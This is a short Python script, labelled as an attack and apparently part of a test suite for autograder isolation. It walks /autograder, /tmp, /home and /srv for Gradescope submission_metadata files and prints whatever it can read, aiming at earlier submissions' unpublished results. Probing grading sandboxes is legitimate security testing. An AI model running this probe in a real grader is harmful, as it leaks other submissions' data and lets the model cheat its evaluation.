# ruff: noqa
# description: looks for Gradescope's submission_metadata.json (earlier submissions' unpublished results) at /autograder and beside the submissions of a local batch (a walk of /tmp, /autograder, /home), and prints what it can read
# ran: METADATA
# %% attack
import os, time

def _find_metadata(budget=1.0):
    t0, found = time.monotonic(), {}
    for root in ("/autograder", "/tmp", "/home", "/srv"):
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() - t0 > budget:
                return found
            for name in filenames:
                if name.startswith("submission_metadata"):
                    try:
                        found[os.path.join(dirpath, name)] = open(os.path.join(dirpath, name)).read(3000)
                    except OSError:
                        pass
    return found

_meta = _find_metadata()
print("METADATA readable=%d" % len(_meta))
for _path, _text in _meta.items():
    print(_path, _text)
